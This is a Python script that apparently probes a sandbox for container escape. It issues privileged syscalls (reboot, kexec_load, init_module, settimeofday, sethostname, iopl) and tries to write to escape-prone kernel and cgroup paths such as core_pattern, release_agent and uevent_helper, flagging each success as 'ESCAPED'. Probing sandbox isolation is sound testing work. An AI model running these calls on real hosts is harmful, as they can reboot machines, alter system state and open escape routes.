import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(name, number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *arguments)
    if result >= 0:
        print("ESCAPED:", name, "gave", result)
    else:
        print(name, os.strerror(ctypes.get_errno()))


call("reboot", 169, ctypes.c_int(0xFEE1DEAD - (1 << 32)), 672274793, 0x01234567, None)
call("init_module", 175, b"", 0, b"")
call("kexec_load", 246, 0, 0, None, 0)
call("settimeofday", 164, ctypes.create_string_buffer(16), None)
call("sethostname", 170, b"owned", 5)
call("swapon", 167, b"/tmp/swap", 0)
log = ctypes.create_string_buffer(4096)
# gVisor's kernel has a log of its own, with jokes in it and nothing of the host.
if libc.syscall(ctypes.c_long(103), 3, log, 4096) >= 0 and b"gVisor" not in log.value:
    print("ESCAPED: syslog gave", log.value[:80])
call("acct", 163, b"/tmp/acct")
call("ioperm", 173, 0, 100, 1)
call("iopl", 172, 3)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
             "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/pids.max", "/sys/kernel/uevent_helper", "/proc/1/oom_score_adj"):
    try:
        with open(path, "w") as file:
            file.write("1")
        print("ESCAPED: wrote", path)
    except OSError:
        pass
print("attack ran")
